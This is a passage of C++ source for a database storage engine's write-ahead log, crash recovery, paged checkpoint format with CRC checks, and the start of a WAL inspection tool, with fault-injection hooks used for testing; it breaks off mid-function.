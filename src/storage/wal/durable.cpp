#include "storage/wal/durable.h"

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <map>

#include "common/failpoint.h"
#include "common/string_util.h"
#include "storage/wal/codec.h"

namespace septic::storage::wal {

namespace {

using codec::Cursor;
using codec::put_str;
using codec::put_u64;

constexpr uint64_t kCheckpointVersion = 1;

constexpr uint64_t kFlagPk = 1;
constexpr uint64_t kFlagNotNull = 2;
constexpr uint64_t kFlagAutoInc = 4;
constexpr uint64_t kFlagDefault = 8;

void write_all_fd(int fd, const char* data, size_t n, const std::string& what) {
  while (n > 0) {
    ssize_t w = ::write(fd, data, n);
    if (w < 0) {
      if (errno == EINTR) continue;
      throw WalError("checkpoint: write failed (" + what +
                     "): " + std::strerror(errno));
    }
    data += w;
    n -= static_cast<size_t>(w);
  }
}

/// Checkpoint-path directory fsync — mandatory, unlike atomic_file's
/// best-effort variant. The caller rotates (wipes) the WAL right after:
/// if the rename were not durably in the directory, a power loss could
/// surface the OLD checkpoint next to an already-emptied log, losing
/// everything since the previous checkpoint. Throwing instead leaves the
/// old checkpoint + un-rotated log, which recovery handles.
void fsync_dir_or_throw(const std::string& dir) {
  SEPTIC_FAILPOINT_HOOK("checkpoint.dir_fsync_fail") {
    throw WalError("checkpoint: directory fsync failed: injected I/O error");
  }
  int dfd = ::open(dir.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (dfd < 0) {
    throw WalError("checkpoint: cannot open directory " + dir + ": " +
                   std::strerror(errno));
  }
  if (::fsync(dfd) != 0) {
    int saved = errno;
    ::close(dfd);
    throw WalError("checkpoint: directory fsync failed: " +
                   std::string(std::strerror(saved)));
  }
  ::close(dfd);
}

/// One table serialized to checkpoint-content tokens, slots preserved.
std::string encode_table_block(const Table& table) {
  std::string out;
  const TableSchema& s = table.schema();
  put_str(out, s.name());
  put_u64(out, s.column_count());
  for (const ColumnDef& c : s.columns()) {
    put_str(out, c.name);
    put_u64(out, static_cast<uint64_t>(c.type));
    uint64_t flags = 0;
    if (c.primary_key) flags |= kFlagPk;
    if (c.not_null) flags |= kFlagNotNull;
    if (c.auto_increment) flags |= kFlagAutoInc;
    if (c.default_value) flags |= kFlagDefault;
    put_u64(out, flags);
    if (c.default_value) put_str(out, c.default_value->repr());
  }
  put_u64(out, static_cast<uint64_t>(table.next_auto_increment()));
  put_u64(out, table.slot_count());
  put_u64(out, table.row_count());
  table.scan([&](size_t slot, const Row& row) {
    put_u64(out, slot);
    put_u64(out, row.size());
    for (const sql::Value& v : row) put_str(out, v.repr());
    return true;
  });
  auto indexes = table.index_defs();
  put_u64(out, indexes.size());
  for (const auto& [idx_name, idx_col] : indexes) {
    put_str(out, idx_name);
    put_str(out, idx_col);
  }
  return out;
}

void decode_table_block(Cursor& c, Catalog& catalog) {
  std::string name{c.str()};
  uint64_t ncols = c.u64();
  if (!c.ok || ncols == 0 || ncols > c.s.size()) {
    throw WalError("checkpoint: malformed table block");
  }
  std::vector<ColumnDef> cols;
  cols.reserve(ncols);
  for (uint64_t i = 0; i < ncols; ++i) {
    ColumnDef def;
    def.name = std::string(c.str());
    uint64_t type = c.u64();
    uint64_t flags = c.u64();
    if (!c.ok || type > 2) throw WalError("checkpoint: bad column");
    def.type = static_cast<ColumnType>(type);
    def.primary_key = (flags & kFlagPk) != 0;
    def.not_null = (flags & kFlagNotNull) != 0;
    def.auto_increment = (flags & kFlagAutoInc) != 0;
    if ((flags & kFlagDefault) != 0) {
      sql::Value v;
      if (!sql::Value::from_repr(c.str(), v) || !c.ok) {
        throw WalError("checkpoint: bad default repr");
      }
      def.default_value = v;
    }
    cols.push_back(std::move(def));
  }
  uint64_t auto_inc = c.u64();
  uint64_t slot_count = c.u64();
  uint64_t nlive = c.u64();
  if (!c.ok || nlive > slot_count) {
    throw WalError("checkpoint: malformed table block");
  }
  Table& t = catalog.create_table(TableSchema(name, std::move(cols)));
  for (uint64_t i = 0; i < nlive; ++i) {
    uint64_t slot = c.u64();
    uint64_t nvals = c.u64();
    if (!c.ok || nvals > c.s.size()) throw WalError("checkpoint: bad row");
    Row row;
    row.reserve(nvals);
    for (uint64_t j = 0; j < nvals; ++j) {
      sql::Value v;
      if (!sql::Value::from_repr(c.str(), v) || !c.ok) {
        throw WalError("checkpoint: bad value repr");
      }
      row.push_back(std::move(v));
    }
    t.load_row_at_slot(slot, std::move(row));
  }
  t.pad_slots(slot_count);
  t.set_auto_increment(static_cast<int64_t>(auto_inc));
  uint64_t nindexes = c.u64();
  if (!c.ok || nindexes > c.s.size()) {
    throw WalError("checkpoint: malformed table block");
  }
  for (uint64_t i = 0; i < nindexes; ++i) {
    std::string idx_name{c.str()};
    std::string idx_col{c.str()};
    if (!c.ok) throw WalError("checkpoint: bad index def");
    crashpoint("recovery.crash_index_rebuild");
    t.create_index(idx_name, idx_col);
  }
}

}  // namespace

const char* durability_mode_name(DurabilityMode m) {
  switch (m) {
    case DurabilityMode::kOff:
      return "off";
    case DurabilityMode::kRelaxed:
      return "relaxed";
    case DurabilityMode::kFull:
      return "full";
  }
  return "?";
}

DurableStorage::DurableStorage(Options opts)
    : opts_(std::move(opts)),
      mode_(opts_.mode),
      page_cache_(opts_.page_cache_pages) {
  if (opts_.dir.empty()) throw WalError("durable storage needs a directory");
  std::error_code ec;
  std::filesystem::create_directories(opts_.dir, ec);
  if (ec) {
    throw WalError("cannot create data directory " + opts_.dir + ": " +
                   ec.message());
  }
}

DurableStorage::~DurableStorage() {
  // Best-effort shutdown barrier; an unclean exit is what recovery is for.
  try {
    if (wal_ != nullptr && mode_ != DurabilityMode::kOff) wal_->sync_all();
  } catch (...) {
  }
}

void DurableStorage::set_mode(DurabilityMode m) {
  if (mode_ == DurabilityMode::kOff && m != DurabilityMode::kOff) {
    // Mutations made while off never passed through mark_dirty, so any
    // cached table block may be stale — the transition checkpoint (the
    // set_mode contract) must re-serialize everything.
    std::lock_guard lk(dirty_mu_);
    block_cache_.clear();
  }
  mode_ = m;
}

std::string DurableStorage::wal_path() const { return opts_.dir + "/wal.log"; }

std::string DurableStorage::checkpoint_path() const {
  return opts_.dir + "/tables.pg";
}

// ---- catalog codec --------------------------------------------------------

std::string DurableStorage::encode_catalog(const Catalog& catalog) {
  std::string out;
  put_u64(out, kCheckpointVersion);
  auto names = catalog.table_names();
  put_u64(out, names.size());
  for (const std::string& name : names) {
    out += encode_table_block(*catalog.find(name));
  }
  return out;
}

void DurableStorage::decode_catalog(std::string_view content,
                                    Catalog& catalog) {
  catalog.load_snapshot("");  // reset to empty
  Cursor c{content};
  uint64_t version = c.u64();
  uint64_t ntables = c.u64();
  if (!c.ok || version != kCheckpointVersion || ntables > content.size()) {
    throw WalError("checkpoint: bad content header");
  }
  try {
    for (uint64_t i = 0; i < ntables; ++i) decode_table_block(c, catalog);
  } catch (const StorageError& e) {
    throw WalError(std::string("checkpoint: ") + e.what());
  }
  if (!c.done()) throw WalError("checkpoint: trailing bytes in content");
}

// ---- replay ---------------------------------------------------------------

void DurableStorage::apply_redo(Catalog& catalog, const RedoOp& op) {
  Table* t = catalog.find(op.table);
  if (t == nullptr) {
    throw WalError("recovery: redo references missing table '" + op.table +
                   "'");
  }
  switch (op.kind) {
    case RedoOp::Kind::kInsert: {
      Table::InsertResult res = t->insert(op.row);
      if (res.slot != op.slot) {
        // The log remembers where this row landed; divergence means the
        // checkpoint/log pair is inconsistent, not a state we can guess
        // our way out of.
        throw WalError("recovery: insert slot divergence in '" + op.table +
                       "' (logged " + std::to_string(op.slot) + ", replayed " +
                       std::to_string(res.slot) + ")");
      }
      break;
    }
    case RedoOp::Kind::kUpdate:
      if (op.slot >= t->slot_count() || !t->slot_live(op.slot)) {
        throw WalError("recovery: update of dead slot in '" + op.table + "'");
      }
      t->update(op.slot, op.changes);
      break;
    case RedoOp::Kind::kDelete:
      if (op.slot >= t->slot_count() || !t->slot_live(op.slot)) {
        throw WalError("recovery: delete of dead slot in '" + op.table + "'");
      }
      t->erase(op.slot);
      break;
  }
}

void DurableStorage::apply_ddl(Catalog& catalog, const DdlRedo& op) {
  switch (op.kind) {
    case DdlRedo::Kind::kCreateTable:
      catalog.restore_table_snapshot(op.schema_block);
      break;
    case DdlRedo::Kind::kDropTable:
      catalog.drop_table(op.table);
      break;
    case DdlRedo::Kind::kTruncate: {
      // Mirror the runtime exactly: erase every live slot (numbering keeps
      // growing) and reset the auto-increment counter.
      Table& t = catalog.require(op.table);
      std::vector<size_t> slots;
      t.scan([&](size_t slot, const Row&) {
        slots.push_back(slot);
        return true;
      });
      for (size_t slot : slots) t.erase(slot);
      t.set_auto_increment(1);
      break;
    }
    case DdlRedo::Kind::kCreateIndex:
      catalog.require(op.table).create_index(op.index, op.column);
      break;
    case DdlRedo::Kind::kDropIndex:
      catalog.require(op.table).drop_index(op.index);
      break;
  }
}

void DurableStorage::apply_ddl_undo(Catalog& catalog, const DdlUndoRedo& op) {
  switch (op.kind) {
    case DdlUndoRedo::Kind::kDropTable:
      catalog.drop_table(op.table);
      break;
    case DdlUndoRedo::Kind::kRestoreTable:
      catalog.restore_table_snapshot(op.snapshot);
      break;
    case DdlUndoRedo::Kind::kDropIndex:
      catalog.require(op.table).drop_index(op.index);
      break;
    case DdlUndoRedo::Kind::kCreateIndex:
      catalog.require(op.table).create_index(op.index, op.column);
      break;
  }
}

RecoveryReport DurableStorage::recover_into(Catalog& catalog) {
  if (recovered_) throw WalError("recover_into called twice");
  RecoveryReport rep;
  catalog.load_snapshot("");  // start from empty

  // A tmp left behind by a crashed checkpoint was never renamed into
  // place; it is dead weight (the next checkpoint rewrites it anyway).
  ::unlink((checkpoint_path() + ".tmp").c_str());

  uint64_t ddl_version = 0;
  if (std::filesystem::exists(checkpoint_path())) {
    PagedFile pf(checkpoint_path(), &page_cache_);
    decode_catalog(pf.read_all(), catalog);
    rep.checkpoint_loaded = true;
    rep.checkpoint_lsn = pf.meta().checkpoint_lsn;
    ddl_version = pf.meta().ddl_version;
  }
  last_checkpoint_lsn_.store(rep.checkpoint_lsn, std::memory_order_relaxed);

  WalScan scan = scan_wal(wal_path());
  rep.wal_torn_bytes = scan.torn_bytes;
  if (scan.header_ok && scan.start_lsn > rep.checkpoint_lsn + 1) {
    throw WalError("recovery: LSN gap between checkpoint (" +
                   std::to_string(rep.checkpoint_lsn) + ") and log start (" +
                   std::to_string(scan.start_lsn) + ")");
  }

  // kDdl records of transactions that have not ended yet: if the log ends
  // before their end record, the crash interrupted the transaction and
  // its DDL must be undone (newest first, like nested rollback).
  struct PendingUndo {
    uint64_t txn_id;
    DdlUndoRedo undo;
  };
  std::vector<PendingUndo> pending;

  try {
    for (const WalRecord& rec : scan.records) {
      ++rep.records_scanned;
      if (rec.lsn <= rep.checkpoint_lsn) {
        ++rep.records_skipped;
        continue;
      }
      crashpoint("recovery.crash_mid_replay");
      auto drop_pending = [&](uint64_t txn_id) {
        pending.erase(std::remove_if(pending.begin(), pending.end(),
                                     [&](const PendingUndo& p) {
                                       return p.txn_id == txn_id;
                                     }),
                      pending.end());
      };
      switch (rec.type) {
        case RecordType::kCommit:
          for (const RedoOp& op : rec.ops) {
            apply_redo(catalog, op);
            ++rep.rows_recovered;
          }
          if (rec.txn_id != 0) drop_pending(rec.txn_id);
          ++rep.commits_replayed;
          break;
        case RecordType::kDdl:
          for (const DdlRedo& d : rec.ddl) {
            apply_ddl(catalog, d);
            ++ddl_version;
          }
          for (const DdlUndoRedo& u : rec.ddl_undo) {
            pending.push_back({rec.txn_id, u});
          }
          ++rep.ddl_replayed;
          break;
        case RecordType::kRollback:
          // The record carries the undos the runtime applied; replay them
          // in the same (reverse-of-recorded) order.
          for (auto it = rec.ddl_undo.rbegin(); it != rec.ddl_undo.rend();
               ++it) {
            apply_ddl_undo(catalog, *it);
          }
          if (!rec.ddl_undo.empty()) ++ddl_version;
          drop_pending(rec.txn_id);
          ++rep.rollbacks_replayed;
          break;
        case RecordType::kEndKeepDdl:
          drop_pending(rec.txn_id);
          ++rep.end_keep_ddl_replayed;
          break;
      }
    }

    // Transactions the crash caught mid-flight: their buffered row writes
    // were never logged (nothing to discard), but their DDL applied
    // immediately — honor the undo, newest first.
    std::unordered_set<uint64_t> discarded;
    for (auto it = pending.rbegin(); it != pending.rend(); ++it) {
      apply_ddl_undo(catalog, it->undo);
      if (discarded.insert(it->txn_id).second) ++ddl_version;
    }
    rep.txns_discarded = discarded.size();
  } catch (const StorageError& e) {
    throw WalError(std::string("recovery: replay failed: ") + e.what());
  }

  rep.ddl_version = ddl_version;

  uint64_t next_lsn;
  size_t resume_at;
  const uint64_t salvaged_next = scan.start_lsn + scan.records.size();
  if (scan.header_ok && salvaged_next > rep.checkpoint_lsn) {
    next_lsn = salvaged_next;
    resume_at = scan.valid_bytes;
  } else {
    // Missing, headerless, or torn-at-birth log (crash mid-rotation) —
    // OR a salvaged tail that ends at or below the checkpoint watermark.
    // The latter happens because the watermark can cover appended-but-
    // unfsynced records (ack_sync runs outside the locks checkpoint
    // takes), so a power loss can tear frames the checkpoint already
    // folded in. Resuming at the salvaged LSN would then REUSE LSNs the
    // checkpoint claims as folded, and the next recovery would silently
    // skip freshly fsync-acked commits as "already covered". Everything
    // durable lives in the checkpoint; start a fresh log just past it so
    // the file has no internal LSN gap either.
    next_lsn = rep.checkpoint_lsn + 1;
    resume_at = 0;
  }
  crashpoint("recovery.crash_before_wal_open");
  wal_ = std::make_unique<WalWriter>(wal_path(), next_lsn, resume_at);
  if (rep.wal_torn_bytes > 0) {
    // The truncation that dropped the torn tail must be durable before
    // new records land where the tail used to be.
    wal_->sync_all();
  }
  recovered_ = true;
  return rep;
}

// ---- logging --------------------------------------------------------------

void DurableStorage::mark_dirty(const std::string& table_key) {
  std::lock_guard lk(dirty_mu_);
  dirty_.insert(common::to_lower(table_key));
}

uint64_t DurableStorage::append_record(WalRecord rec) {
  return wal_->append(std::move(rec));
}

uint64_t DurableStorage::log_commit(uint64_t txn_id, StatementJournal ops) {
  // An autocommit statement that touched no rows needs no record. A
  // transactional COMMIT logs even with an empty journal: the kCommit
  // record is the end marker that stops recovery from undoing the
  // transaction's DDL.
  if (wal_ == nullptr || mode_ == DurabilityMode::kOff ||
      (ops.empty() && txn_id == 0)) {
    return 0;
  }
  for (const RedoOp& op : ops) mark_dirty(op.table);
  WalRecord rec;
  rec.type = RecordType::kCommit;
  rec.txn_id = txn_id;
  rec.ops = std::move(ops);
  return append_record(std::move(rec));
}

uint64_t DurableStorage::log_ddl(uint64_t txn_id, DdlRedo op,
                                 std::vector<DdlUndoRedo> undo) {
  if (wal_ == nullptr || mode_ == DurabilityMode::kOff) return 0;
  mark_dirty(op.table);
  for (const DdlUndoRedo& u : undo) mark_dirty(u.table);
  WalRecord rec;
  rec.type = RecordType::kDdl;
  rec.txn_id = txn_id;
  rec.ddl.push_back(std::move(op));
  rec.ddl_undo = std::move(undo);
  crashpoint("wal.ddl.crash_before");
  uint64_t lsn = append_record(std::move(rec));
  crashpoint("wal.ddl.crash_after");
  return lsn;
}

uint64_t DurableStorage::log_rollback(uint64_t txn_id,
                                      std::vector<DdlUndoRedo> undo) {
  if (wal_ == nullptr || mode_ == DurabilityMode::kOff) return 0;
  for (const DdlUndoRedo& u : undo) mark_dirty(u.table);
  WalRecord rec;
  rec.type = RecordType::kRollback;
  rec.txn_id = txn_id;
  rec.ddl_undo = std::move(undo);
  return append_record(std::move(rec));
}

uint64_t DurableStorage::log_end_keep_ddl(uint64_t txn_id) {
  if (wal_ == nullptr || mode_ == DurabilityMode::kOff) return 0;
  WalRecord rec;
  rec.type = RecordType::kEndKeepDdl;
  rec.txn_id = txn_id;
  return append_record(std::move(rec));
}

void DurableStorage::ack_sync(uint64_t lsn) {
  if (lsn == 0 || wal_ == nullptr || mode_ != DurabilityMode::kFull) return;
  wal_->sync_to(lsn);
}

void DurableStorage::sync() {
  if (wal_ != nullptr) wal_->sync_all();
}

bool DurableStorage::wants_checkpoint() const {
  // A poisoned writer (failed append) needs a checkpoint regardless of
  // log size: only folding the full in-memory state into a durable image
  // and rotating makes appending safe again.
  return wal_ != nullptr && mode_ != DurabilityMode::kOff &&
         (wal_->poisoned() || wal_->bytes() >= opts_.checkpoint_wal_bytes);
}

bool DurableStorage::wal_poisoned() const {
  return wal_ != nullptr && wal_->poisoned();
}

// ---- checkpoint -----------------------------------------------------------

void DurableStorage::checkpoint(const Catalog& catalog,
                                uint64_t ddl_version) {
  if (wal_ == nullptr) throw WalError("checkpoint before recovery");
  // Writers are excluded, so every appended record's effects are in
  // `catalog` — the watermark is simply the last assigned LSN.
  uint64_t cp_lsn = wal_->last_lsn();
  crashpoint("checkpoint.crash_begin");

  std::string content;
  {
    std::lock_guard lk(dirty_mu_);
    put_u64(content, kCheckpointVersion);
    auto names = catalog.table_names();
    put_u64(content, names.size());
    std::unordered_set<std::string> present;
    for (const std::string& name : names) {
      std::string key = common::to_lower(name);
      present.insert(key);
      auto cached = block_cache_.find(key);
      if (cached != block_cache_.end() && dirty_.count(key) == 0) {
        // Clean since the last checkpoint: reuse its serialized block
        // instead of re-walking the rows.
        content += cached->second;
        tables_reused_.fetch_add(1, std::memory_order_relaxed);
      } else {
        std::string block = encode_table_block(*catalog.find(name));
        content += block;
        block_cache_[key] = std::move(block);
        tables_serialized_.fetch_add(1, std::memory_order_relaxed);
      }
    }
    for (auto it = block_cache_.begin(); it != block_cache_.end();) {
      it = present.count(it->first) == 0 ? block_cache_.erase(it)
                                         : std::next(it);
    }
    // The freshly (re)cached blocks reflect the current, writer-free
    // state, so they are valid even if the write below fails.
    dirty_.clear();
  }

  std::string image = encode_paged(content, cp_lsn, ddl_version);
  std::string tmp = checkpoint_path() + ".tmp";
  int fd = ::open(tmp.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC,
                  0644);
  if (fd < 0) {
    throw WalError("checkpoint: cannot open " + tmp + ": " +
                   std::strerror(errno));
  }
  try {
    SEPTIC_FAILPOINT_HOOK("checkpoint.crash_torn_pages") {
      // Half the pages reach the tmp file, then the plug is pulled. The
      // rename never happens, so recovery must still see the OLD
      // checkpoint and the un-rotated log.
      write_all_fd(fd, image.data(), image.size() / 2, "torn pages");
      std::_Exit(42);
    }
    write_all_fd(fd, image.data(), image.size(), "pages");
    crashpoint("checkpoint.crash_before_fsync");
    if (::fsync(fd) != 0) {
      throw WalError("checkpoint: fsync failed: " +
                     std::string(std::strerror(errno)));
    }
  } catch (...) {
    ::close(fd);
    throw;
  }
  ::close(fd);
  crashpoint("checkpoint.crash_before_rename");
  if (::rename(tmp.c_str(), checkpoint_path().c_str()) != 0) {
    throw WalError("checkpoint: rename failed: " +
                   std::string(std::strerror(errno)));
  }
  crashpoint("checkpoint.crash_after_rename");
  fsync_dir_or_throw(opts_.dir);

  {
    // Old page numbers are meaningless against the new file (dirty_mu_
    // also guards the cache against a concurrent stats() reader).
    std::lock_guard lk(dirty_mu_);
    page_cache_.clear();
  }

  // Retire the folded-in records. Crashing inside rotate() is covered:
  // replay skips everything at or below the watermark just renamed in.
  wal_->rotate();
  checkpoints_.fetch_add(1, std::memory_order_relaxed);
  last_checkpoint_lsn_.store(cp_lsn, std::memory_order_relaxed);
  crashpoint("checkpoint.crash_end");
}

DurabilityStats DurableStorage::stats() const {
  DurabilityStats s;
  s.mode = mode_;
  if (wal_ != nullptr) s.wal = wal_->stats();
  {
    std::lock_guard lk(dirty_mu_);
    s.page_cache = page_cache_.stats();
  }
  s.checkpoints = checkpoints_.load(std::memory_order_relaxed);
  s.checkpoint_tables_serialized =
      tables_serialized_.load(std::memory_order_relaxed);
  s.checkpoint_tables_reused = tables_reused_.load(std::memory_order_relaxed);
  s.last_checkpoint_lsn = last_checkpoint_lsn_.load(std::memory_order_relaxed);
  return s;
}

}  // namespace septic::storage::wal

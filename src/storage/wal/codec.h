// Token codec shared by the WAL record format and the paged-checkpoint
// content format: space-separated tokens, unsigned decimals, strings as
// "<len>:<bytes>" (length-prefixed so bytes may contain anything — the
// same trick as Value::repr and the snapshot row lines).
//
// Internal to src/storage/wal; decoding never throws, it flips the
// cursor's `ok` flag so callers can treat any malformed input as
// corruption with one check.
#pragma once

#include <charconv>
#include <cstdint>
#include <string>
#include <string_view>

namespace septic::storage::wal::codec {

inline void put_u64(std::string& out, uint64_t v) {
  out += std::to_string(v);
  out += ' ';
}

inline void put_str(std::string& out, std::string_view s) {
  out += std::to_string(s.size());
  out += ':';
  out.append(s.data(), s.size());
  out += ' ';
}

struct Cursor {
  std::string_view s;
  size_t i = 0;
  bool ok = true;

  bool fail() {
    ok = false;
    return false;
  }
  bool eat_space() {
    if (!ok || i >= s.size() || s[i] != ' ') return fail();
    ++i;
    return true;
  }
  bool done() const { return ok && i == s.size(); }

  uint64_t u64() {
    if (!ok) return 0;
    uint64_t v = 0;
    auto [p, ec] = std::from_chars(s.data() + i, s.data() + s.size(), v);
    if (ec != std::errc() || p == s.data() + i) {
      fail();
      return 0;
    }
    i = static_cast<size_t>(p - s.data());
    eat_space();
    return v;
  }

  std::string_view str() {
    if (!ok) return {};
    uint64_t len = 0;
    auto [p, ec] = std::from_chars(s.data() + i, s.data() + s.size(), len);
    if (ec != std::errc() || p == s.data() + i) {
      fail();
      return {};
    }
    i = static_cast<size_t>(p - s.data());
    if (i >= s.size() || s[i] != ':') {
      fail();
      return {};
    }
    ++i;
    if (len > s.size() - i) {
      fail();
      return {};
    }
    std::string_view out = s.substr(i, len);
    i += len;
    eat_space();
    return out;
  }
};

}  // namespace septic::storage::wal::codec

#include "storage/wal/pager.h"

#include <fcntl.h>
#include <unistd.h>

#include <cerrno>
#include <charconv>
#include <cstring>

#include "common/hash.h"
#include "storage/wal/wal.h"

namespace septic::storage::wal {

namespace {

constexpr std::string_view kPgMagic = "SEPTICPG 1 ";

uint32_t get_u32le(const char* p) {
  return static_cast<uint32_t>(static_cast<unsigned char>(p[0])) |
         (static_cast<uint32_t>(static_cast<unsigned char>(p[1])) << 8) |
         (static_cast<uint32_t>(static_cast<unsigned char>(p[2])) << 16) |
         (static_cast<uint32_t>(static_cast<unsigned char>(p[3])) << 24);
}

void put_u32le(char* p, uint32_t v) {
  p[0] = static_cast<char>(v & 0xff);
  p[1] = static_cast<char>((v >> 8) & 0xff);
  p[2] = static_cast<char>((v >> 16) & 0xff);
  p[3] = static_cast<char>((v >> 24) & 0xff);
}

std::string header_fields(const CheckpointMeta& m) {
  std::string s;
  s += std::to_string(m.page_count);
  s += ' ';
  s += std::to_string(m.content_len);
  s += ' ';
  s += std::to_string(m.checkpoint_lsn);
  s += ' ';
  s += std::to_string(m.ddl_version);
  return s;
}

bool parse_u64(std::string_view tok, uint64_t& out) {
  auto [p, ec] = std::from_chars(tok.data(), tok.data() + tok.size(), out);
  return ec == std::errc() && p == tok.data() + tok.size();
}

}  // namespace

// ---- PageCache ------------------------------------------------------------

PageCache::PageCache(size_t capacity_pages)
    : capacity_(capacity_pages == 0 ? 1 : capacity_pages) {}

const std::string* PageCache::get(uint64_t page_no) {
  auto it = map_.find(page_no);
  if (it == map_.end()) {
    ++misses_;
    return nullptr;
  }
  ++hits_;
  lru_.splice(lru_.begin(), lru_, it->second);
  return &it->second->second;
}

void PageCache::put(uint64_t page_no, std::string payload) {
  auto it = map_.find(page_no);
  if (it != map_.end()) {
    it->second->second = std::move(payload);
    lru_.splice(lru_.begin(), lru_, it->second);
    return;
  }
  lru_.emplace_front(page_no, std::move(payload));
  map_[page_no] = lru_.begin();
  while (map_.size() > capacity_) {
    map_.erase(lru_.back().first);
    lru_.pop_back();
    ++evictions_;
  }
}

void PageCache::clear() {
  lru_.clear();
  map_.clear();
}

PageCacheStats PageCache::stats() const {
  PageCacheStats s;
  s.hits = hits_;
  s.misses = misses_;
  s.evictions = evictions_;
  s.pages = map_.size();
  s.capacity = capacity_;
  return s;
}

// ---- encode ---------------------------------------------------------------

std::string encode_paged(std::string_view content, uint64_t checkpoint_lsn,
                         uint64_t ddl_version) {
  CheckpointMeta m;
  m.page_count = (content.size() + kPagePayload - 1) / kPagePayload;
  m.content_len = content.size();
  m.checkpoint_lsn = checkpoint_lsn;
  m.ddl_version = ddl_version;

  std::string out;
  out.reserve((1 + m.page_count) * kPageSize);

  std::string fields = header_fields(m);
  std::string header{kPgMagic};
  header += fields;
  header += ' ';
  header += common::to_hex32(common::crc32(fields));
  header += '\n';
  header.resize(kPageSize, '\0');
  out += header;

  for (uint64_t p = 0; p < m.page_count; ++p) {
    std::string_view chunk = content.substr(
        p * kPagePayload, std::min(kPagePayload,
                                   content.size() - p * kPagePayload));
    char crc[4];
    put_u32le(crc, common::crc32(chunk));
    out.append(crc, 4);
    out.append(chunk.data(), chunk.size());
    out.append(kPagePayload - chunk.size(), '\0');
  }
  return out;
}

// ---- PagedFile ------------------------------------------------------------

PagedFile::PagedFile(std::string path, PageCache* cache)
    : path_(std::move(path)), cache_(cache) {
  fd_ = ::open(path_.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd_ < 0) {
    throw WalError("pager: cannot open " + path_ + ": " +
                   std::strerror(errno));
  }
  char page[kPageSize];
  ssize_t n = ::pread(fd_, page, kPageSize, 0);
  if (n < 0) {
    ::close(fd_);
    fd_ = -1;
    throw WalError("pager: read failed: " + std::string(std::strerror(errno)));
  }
  std::string_view hdr{page, static_cast<size_t>(n)};
  size_t nl = hdr.find('\n');
  if (static_cast<size_t>(n) < kPageSize || nl == std::string_view::npos ||
      hdr.compare(0, kPgMagic.size(), kPgMagic) != 0) {
    ::close(fd_);
    fd_ = -1;
    throw WalError("pager: " + path_ + ": bad header page");
  }
  std::string_view line = hdr.substr(kPgMagic.size(), nl - kPgMagic.size());
  // "<page_count> <content_len> <checkpoint_lsn> <ddl_version> <crc_hex>"
  uint64_t vals[4];
  size_t pos = 0;
  for (auto& val : vals) {
    size_t sp = line.find(' ', pos);
    if (sp == std::string_view::npos || !parse_u64(line.substr(pos, sp - pos), val)) {
      ::close(fd_);
      fd_ = -1;
      throw WalError("pager: " + path_ + ": malformed header");
    }
    pos = sp + 1;
  }
  std::string_view crc_hex = line.substr(pos);
  meta_.page_count = vals[0];
  meta_.content_len = vals[1];
  meta_.checkpoint_lsn = vals[2];
  meta_.ddl_version = vals[3];
  std::string want_crc = common::to_hex32(common::crc32(header_fields(meta_)));
  if (crc_hex != want_crc) {
    ::close(fd_);
    fd_ = -1;
    throw WalError("pager: " + path_ + ": header CRC mismatch");
  }
  if (meta_.content_len >
      meta_.page_count * static_cast<uint64_t>(kPagePayload)) {
    ::close(fd_);
    fd_ = -1;
    throw WalError("pager: " + path_ + ": content length exceeds pages");
  }
}

PagedFile::~PagedFile() {
  if (fd_ >= 0) ::close(fd_);
}

std::string PagedFile::read_page(uint64_t page_no) {
  if (page_no < 1 || page_no > meta_.page_count) {
    throw WalError("pager: " + path_ + ": page " + std::to_string(page_no) +
                   " out of range");
  }
  if (cache_ != nullptr) {
    if (const std::string* hit = cache_->get(page_no)) return *hit;
  }
  char page[kPageSize];
  ssize_t n = ::pread(fd_, page, kPageSize,
                      static_cast<off_t>(page_no * kPageSize));
  if (n < 0) {
    throw WalError("pager: read failed: " + std::string(std::strerror(errno)));
  }
  size_t used = (page_no < meta_.page_count)
                    ? kPagePayload
                    : meta_.content_len - (meta_.page_count - 1) * kPagePayload;
  if (static_cast<size_t>(n) < 4 + used) {
    throw WalError("pager: " + path_ + ": page " + std::to_string(page_no) +
                   " truncated");
  }
  uint32_t crc = get_u32le(page);
  std::string payload{page + 4, used};
  if (common::crc32(payload) != crc) {
    throw WalError("pager: " + path_ + ": page " + std::to_string(page_no) +
                   " CRC mismatch");
  }
  if (cache_ != nullptr) cache_->put(page_no, payload);
  return payload;
}

std::string PagedFile::read_all() {
  std::string out;
  out.reserve(meta_.content_len);
  for (uint64_t p = 1; p <= meta_.page_count; ++p) out += read_page(p);
  return out;
}

}  // namespace septic::storage::wal

// wal_inspect: dump a data directory's durability files for debugging.
//
//   wal_inspect <data-dir>            checkpoint summary + every WAL record
//   wal_inspect --wal <file>          one log file only
//   wal_inspect --checkpoint <file>   one checkpoint file only
//
// Exit status: 0 clean, 1 corruption detected (torn tail, bad pages),
// 2 usage / unreadable input. Read-only: safe to point at a live
// directory or a post-crash one.
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <string>

#include "storage/catalog.h"
#include "storage/wal/durable.h"
#include "storage/wal/pager.h"
#include "storage/wal/wal.h"

namespace {

using namespace septic::storage;

int dump_checkpoint(const std::string& path) {
  if (!std::filesystem::exists(path)) {
    std::printf("checkpoint: %s (absent)\n", path.c_str());
    return 0;
  }
  try {
    wal::PagedFile pf(path, nullptr);
    const wal::CheckpointMeta& m = pf.meta();
    std::printf(
        "checkpoint: %s\n  pages=%llu content_len=%llu checkpoint_lsn=%llu "
        "ddl_version=%llu\n",
        path.c_str(), static_cast<unsigned long long>(m.page_count),
        static_cast<unsigned long long>(m.content_len),
        static_cast<unsigned long long>(m.checkpoint_lsn),
        static_cast<unsigned long long>(m.ddl_version));
    Catalog catalog;
    wal::DurableStorage::decode_catalog(pf.read_all(), catalog);
    for (const std::string& name : catalog.table_names()) {
      const Table* t = catalog.find(name);
      std::printf("  table %-20s rows=%zu slots=%zu auto_inc=%lld\n",
                  name.c_str(), t->row_count(), t->slot_count(),
                  static_cast<long long>(t->next_auto_increment()));
    }
    return 0;
  } catch (const std::exception& e) {
    std::printf("checkpoint: %s\n  CORRUPT: %s\n", path.c_str(), e.what());
    return 1;
  }
}

void print_record(const wal::WalRecord& rec) {
  std::printf("  lsn=%llu %-12s txn=%llu",
